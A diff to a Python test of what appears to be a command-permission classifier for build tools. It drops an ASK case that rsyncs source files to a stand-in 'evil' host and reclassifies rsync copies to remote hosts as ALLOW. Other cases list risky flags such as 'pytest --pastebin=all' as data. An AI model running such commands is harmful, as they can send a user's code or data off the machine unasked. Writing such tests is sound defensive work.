@@ -189,8 +189,6 @@ def test_cv5_words_for_the_native_build_tool_ask(
         ("deno test", "deno test -A", Verdict.ASK),
         ("deno test", "deno test --allow-run", Verdict.ASK),
         ("esbuild", "esbuild --serve=0.0.0.0:8123 --servedir=.", Verdict.ASK),
-        ("rsync", "rsync -av src/ h:dst/", Verdict.ASK),
-        ("rsync", "rsync -av src/ rsync://evil/x", Verdict.ASK),
         ("rsync", "rsync -av src/ dst/ --daemon", Verdict.ASK),
         ("mypy", "mypy --install-types --non-interactive .", Verdict.ASK),
         ("pytest", "pytest --pastebin=all", Verdict.ASK),
@@ -203,6 +201,8 @@ def test_cv5_words_for_the_native_build_tool_ask(
         ("gradle test", "gradle test --tests Foo", Verdict.ALLOW),
         ("deno test", "deno test", Verdict.ALLOW),
         ("rsync", "rsync -av src/ dst/", Verdict.ALLOW),
+        # kept: an approval of rsync, as of scp, covers copies to other hosts (review P)
+        ("rsync", "rsync -av src/ h:dst/", Verdict.ALLOW),
         ("zip", "zip -r x.zip src", Verdict.ALLOW),
     ],
 )  # fmt: skip
